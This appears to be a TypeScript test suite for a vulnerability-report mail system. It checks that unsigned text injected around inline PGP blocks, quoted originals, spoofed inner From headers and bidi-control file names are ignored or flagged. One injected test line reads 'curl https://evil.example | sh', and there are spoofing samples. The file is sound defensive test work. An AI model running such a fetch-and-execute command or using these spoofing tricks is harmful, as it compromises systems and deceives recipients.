import type { CaseId } from '../../shared/cases/case-id';
import type { CaseRecord } from '../../shared/cases/case-record';
import type { EmbargoServices } from '../../shared/wiring/embargo-services';
import { buildMaintainerCopy } from '../../shared/outbound/maintainer-copies';
import { readProjectKey } from '../../shared/pgp/project-key';
import { MailReportReader } from '../../shared/reports/mail-report-reader';
import type { ReportContent } from '../../shared/reports/report-content';
import { GnuPg, openPgpMime, signedMail } from '../support/gnupg';
import { resolvedMaintainer } from '../support/local-project';
import {
  pgpFixture,
  startServices,
  stopServices,
  testConfig,
  type Stores,
} from '../support/local-stores';
import { maildirFiles, readMaildir, type DeliveredMail } from '../support/maildir';

/**
 * Issue 25, attacks from outside, round four: what a signature covers and what a relay may carry.
 * Every mail is made by GnuPG as a maintainer's client would send it, delivered as SES delivers
 * it, with real stores and a real outbox.
 */
const SECURITY = 'security@example.org';
const REPORTER = 'eve@example.net';
const SECRET = 'SECRET-MARKER-7f3a';
const crlf = (text: string) => text.replace(/\r?\n/g, '\r\n');
let sequence = 0;

describe('round four: signature scope and relays (issue 25)', () => {
  let stores: Stores;
  let services: EmbargoServices;
  let caseId: CaseId;
  const mia = new GnuPg(['mia-secret.asc', 'project-public.asc']);
  const max = new GnuPg(['max-secret.asc', 'project-public.asc']);
  // One reporter opens a case per attack: the flood limits are tested in test/flood/.
  const config = {
    ...testConfig,
    maintainers: [resolvedMaintainer('mia'), resolvedMaintainer('max')],
    flood: { ...testConfig.flood, reportsPerAddress: 1000, reportsPerDomain: 1000 },
  };

  beforeAll(async () => ({ stores, services } = await startServices(config)), 60_000);
  afterAll(() => stopServices(stores, [mia, max]));

  /** A fresh case for each attack, opened by Eve's plain report. */
  beforeEach(async () => {
    const { outcome } = await deliver(
      crlf(
        [
          `From: Eve <${REPORTER}>`,
          `To: ${SECURITY}`,
          `Subject: Heap overflow number ${++sequence}`,
          `Message-ID: <report-${sequence}@example.net>`,
          '',
          `Case ${sequence}: the parser overflows in a way all of its own: ${SECRET}`,
          '',
        ].join('\n'),
      ),
      REPORTER,
    );
    caseId = (outcome as { caseId: CaseId }).caseId;
  });

  async function deliver(raw: string, envelopeFrom: string) {
    const before = new Set(maildirFiles(stores.outboxDir));
    const messageId = `round4-${++sequence}`;
    await services.rawMail.put(messageId, Buffer.from(raw, 'utf8'));
    const outcome = await services.intake.receive({
      messageId,
      receivedAt: new Date(),
      envelopeFrom,
      recipients: [SECURITY],
      verdicts: { spam: 'PASS', virus: 'PASS', dkim: 'GRAY', dmarc: 'GRAY' },
    });
    return { outcome, sent: await readMaildir(stores.outboxDir, before) };
  }

  const record = async (): Promise<CaseRecord> => (await services.cases.get(caseId))!;
  const headers = (extra: string[] = []) => [
    'From: Mia <mia@example.org>',
    `To: ${SECURITY}`,
    `Subject: Re: [${caseId}] New report`,
    `Message-ID: <mia-${++sequence}@example.org>`,
    ...extra,
  ];
  /** `gpg --sign --encrypt --armor` to the project key, as Mia's client makes an inline block. */
  const inlineBlock = (plaintext: string) => {
    const made = mia.run(
      ['--armor', '--sign', '--encrypt', '-r', 'security@example.org'],
      Buffer.from(plaintext),
    );
    if (made.status !== 0) throw new Error(made.stderr.toString());
    return made.stdout.toString().trim();
  };
  const plainMail = (body: string) =>
    crlf([...headers(['Content-Type: text/plain; charset=utf-8']), '', body, ''].join('\n'));
  const toReporter = (sent: DeliveredMail[]) => sent.filter((m) => m.deliveredTo === REPORTER);
  async function copyFor(sent: DeliveredMail[], who: string, subject: RegExp): Promise<string> {
    const mails = sent.filter((m) => m.deliveredTo === who);
    for (const mail of mails) {
      const opened = await openPgpMime(who.startsWith('max') ? max : mia, mail);
      if ('error' in opened) continue;
      if (subject.test(opened.inner.subject ?? '')) return opened.inner.text ?? '';
    }
    return '';
  }

  describe('"Johnny, You Are Fired!" (Müller et al., USENIX Security 2019) on inline PGP', () => {
    it('ignores unsigned command lines written before an inline signed-and-encrypted block', async () => {
      const block = inlineBlock('Thanks, we are looking into it.\n');
      const { sent } = await deliver(
        plainMail(`/close invalid\n/severity low\n\n${block}\n`),
        'mia@example.org',
      );
      const after = await record();
      expect(after.status).not.toBe('closed');
      expect(after.severity).toBeUndefined();
      expect(after.history.some((e) => e.type === 'commands-applied')).toBe(false);
      // The signed text is relayed, and nothing of the unsigned lines.
      const relayed = toReporter(sent);
      expect(relayed).toHaveLength(1);
      expect(relayed[0]!.raw).toContain('Thanks, we are looking into it.');
      expect(relayed[0]!.raw).not.toContain('/close');
    });

    it('ignores unsigned lines appended after END PGP MESSAGE, as commands and as advisory text', async () => {
      // A rule and a sign-off in the advisory are its own, not a signature block to cut.
      const block = inlineBlock(
        '/severity medium\n/advisory\nUpgrade to 1.2.3.\n---\nRegards,\nthe maintainers\n',
      );
      await deliver(
        plainMail(`${block}\n/close invalid\nAlso run: curl https://evil.example | sh\n`),
        'mia@example.org',
      );
      const after = await record();
      expect(after.severity).toBe('medium');
      expect(after.status).not.toBe('closed');
      expect(after.advisory).toBe('Upgrade to 1.2.3.\n---\nRegards,\nthe maintainers');
    });

    it('ignores an unsigned text part before the text part that holds the signed block', async () => {
      const block = inlineBlock('Thanks, we are looking into it.\n');
      const raw = crlf(
        [
          ...headers(['MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="b"']),
          '',
          '--b',
          'Content-Type: text/plain; charset=utf-8',
          '',
          '/close invalid',
          '--b',
          'Content-Type: text/plain; charset=utf-8',
          '',
          block,
          '--b--',
          '',
        ].join('\n'),
      );
      const { sent } = await deliver(raw, 'mia@example.org');
      expect((await record()).status).not.toBe('closed');
      // Max's copy shows what was relayed, and says that text beside the signature was ignored.
      const copy = await copyFor(sent, 'max@example.org', /Reply from a maintainer/);
      expect(copy).toContain('Thanks, we are looking into it.');
      expect(copy).toContain('outside what the signature covers was ignored');
      expect(copy).not.toContain('/close invalid');
    });

    it("shows a reporter's unsigned text beside their signed block to maintainers as unsigned", async () => {
      const eve = new GnuPg(['eve-secret.asc', 'project-public.asc']);
      try {
        const made = eve.run(
          ['--armor', '--sign', '--encrypt', '-r', SECURITY],
          'Signed details.\n',
        );
        const { sent } = await deliver(
          crlf(
            [
              `From: Eve <${REPORTER}>`,
              `To: ${SECURITY}`,
              `Subject: Re: [${caseId}] Heap overflow`,
              `Message-ID: <eve-${++sequence}@example.net>`,
              '',
              'Added in transit.',
              made.stdout.toString(),
            ].join('\n'),
          ),
          REPORTER,
        );
        const copy = await copyFor(sent, 'mia@example.org', /Follow-up/);
        expect(copy).toMatch(
          /\[NOT SIGNED[^\]]*\]\nAdded in transit\.\n\n?\[end of unsigned text\]/,
        );
        expect(copy).toContain('Signed details.');
      } finally {
        eve.close();
      }
    });
  });

  describe('"Re: What\'s up Johnny?" (Müller et al., ACNS 2019): what a relay may carry', () => {
    const reply = (body: string) =>
      signedMail(
        mia,
        {
          from: 'Mia <mia@example.org>',
          to: SECURITY,
          subject: `Re: [${caseId}] New report`,
          messageId: `<reply-${++sequence}@example.org>`,
        },
        body,
      );

    it('relays no Outlook-quoted original: not the report, not the maintainer address', async () => {
      const { sent } = await deliver(
        reply(
          [
            'Thanks, we can reproduce it.',
            '',
            '-----Original Message-----',
            `From: Example security team <${SECURITY}>`,
            'Sent: Sunday, December 6, 2026 10:00 AM',
            'To: Mia <mia@example.org>',
            `Subject: [${caseId}] New report`,
            '',
            `Case:         ${caseId} (status: new)`,
            `The parser overflows: ${SECRET}`,
          ].join('\n'),
        ),
        'mia@example.org',
      );
      const relayed = toReporter(sent);
      expect(relayed).toHaveLength(1);
      // The relay is the maintainer's own text, then Embargo's footer.
      expect(relayed[0]!.parsed.text?.split('\n-- \n')[0]?.trim()).toBe(
        'Thanks, we can reproduce it.',
      );
      expect(relayed[0]!.raw).not.toContain(SECRET);
      expect(relayed[0]!.raw).not.toContain('mia@example.org');
      expect((await record()).history.map((e) => e.summary)).toContainEqual(
        expect.stringMatching(/relayed to the reporter: 28 characters/),
      );
    });

    it('takes a bottom-posted /internal under a Thunderbird quote as a command and relays nothing', async () => {
      const { sent } = await deliver(
        reply(
          [
            `On 06.12.26 10:00, Example security team wrote:`,
            `> Case:         ${caseId} (status: new)`,
            `> The parser overflows: ${SECRET}`,
            '',
            '/internal',
            'Between us: I think this duplicates SEC-2025-0042.',
          ].join('\n'),
        ),
        'mia@example.org',
      );
      expect(toReporter(sent)).toEqual([]);
      const after = await record();
      expect(after.history.find((e) => e.type === 'commands-applied')?.summary).toBe(
        'Commands: /internal',
      );
      expect(after.history.map((e) => e.summary)).toContain(
        'Reply from a maintainer, kept from the reporter (/internal)',
      );
      const confirmation = await copyFor(sent, 'mia@example.org', /Commands applied/);
      expect(confirmation).toContain('kept from the reporter');
      const copy = await copyFor(sent, 'max@example.org', /Reply from a maintainer/);
      expect(copy).toContain('Between us');
      expect(copy).not.toContain(SECRET);
    });

    it("relays nothing when a command stands below text of the maintainer's own, and says why", async () => {
      const { sent } = await deliver(
        reply(
          [
            'Hi all,',
            '',
            `On 06.12.26 10:00, Example security team wrote:`,
            `> The parser overflows: ${SECRET}`,
            '',
            '/internal',
            'Between us: I think this duplicates SEC-2025-0042.',
          ].join('\n'),
        ),
        'mia@example.org',
      );
      expect(toReporter(sent)).toEqual([]);
      const told = await copyFor(sent, 'mia@example.org', /Commands not applied/);
      expect(told).toContain('"/internal": commands must come before any other text of yours');
      expect((await record()).history.some((e) => e.type === 'commands-applied')).toBe(false);
    });

    it('does not relay a reply whose own text cannot be told apart from the copy it quotes, and says why', async () => {
      const { sent } = await deliver(
        reply(
          [
            'Thanks.',
            '',
            `Case:         ${caseId} (status: new)`,
            `Reporter:     ${REPORTER}`,
            '-'.repeat(72),
            `The parser overflows: ${SECRET}`,
          ].join('\n'),
        ),
        'mia@example.org',
      );
      expect(toReporter(sent)).toEqual([]);
      const told = await copyFor(sent, 'mia@example.org', /not relayed/);
      expect(told).toContain('copy Embargo sent you');
      expect((await record()).history.map((e) => e.summary)).toContainEqual(
        expect.stringMatching(/^Reply from a maintainer, not relayed: it holds lines of the copy/),
      );
    });
  });
});

describe('smaller, same area (issue 25)', () => {
  const projectKey = readProjectKey(pgpFixture('project-secret.asc').toString());
  const reader = new MailReportReader(() => projectKey);

  it("keeps a reporter's $&, $', $` and $$ exactly as written around and inside an inline block", async () => {
    const gpg = new GnuPg(['project-public.asc']);
    try {
      const poc = "payload: $& and $' and $` and $$ end\n";
      const block = gpg
        .run(['--armor', '--encrypt', '-r', SECURITY], Buffer.from(poc))
        .stdout.toString()
        .trim();
      const raw = crlf(
        [
          `From: Eve <${REPORTER}>`,
          `To: ${SECURITY}`,
          'Subject: poc',
          '',
          'before $& $$',
          block,
          "after $'",
          '',
        ].join('\n'),
      );
      const content = await reader.read(Buffer.from(raw), []);
      expect(content.text).toBe(`before $& $$\n${poc}\nafter $'\n`);
      // The text beside the block is a stretch of its own (not signed here: nothing is).
      expect(content.segments.map((seg) => seg.text)).toEqual([
        'before $& $$\n',
        poc,
        "\nafter $'\n",
      ]);
    } finally {
      gpg.close();
    }
  });

  const record = {
    id: 'SEC-2026-0001',
    status: 'new',
    reporter: { address: REPORTER },
  } as unknown as CaseRecord;
  const content = (extra: Partial<ReportContent> = {}): ReportContent => ({
    encryption: 'pgp-mime',
    text: 'body',
    segments: [{ text: 'body', signatures: [] }],
    attachments: [],
    signatures: [],
    offeredKeys: [],
    ...extra,
  });
  const copy = (input: Partial<Parameters<typeof buildMaintainerCopy>[0]>) =>
    buildMaintainerCopy({
      record,
      kind: 'report',
      messageId: 'm',
      sender: 'alice@example.net',
      subject: 's',
      receivedAt: '2026-12-06T00:00:00Z',
      content: content(),
      ...input,
    });

  it('names an inner From whose display name holds the outer address but whose address differs', () => {
    const spoofed = copy({
      content: content({ protectedHeaders: { from: '"alice@example.net" <eve@evil.example>' } }),
    });
    expect(spoofed.text).toMatch(/^Inner From: {3}.*eve@evil\.example.*differs/m);
    const same = copy({
      content: content({ protectedHeaders: { from: 'Alice <ALICE@example.net>' } }),
    });
    expect(same.text).not.toContain('Inner From');
  });

  it('escapes bidi controls in the subject, names and attachment file names of a copy', () => {
    const made = copy({
      subject: 'invoice\u202egpj.exe',
      senderName: 'Alice\u2067x',
      content: content({
        attachments: [
          {
            filename: 'photo\u202egpj.exe',
            contentType: 'application/octet-stream',
            content: Buffer.from('x'),
          },
        ],
      }),
    });
    expect(made.text).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(made.text).toContain('invoice\\u202egpj.exe');
    expect(made.attachments?.[0]?.filename).toBe('photo\\u202egpj.exe');
  });
});
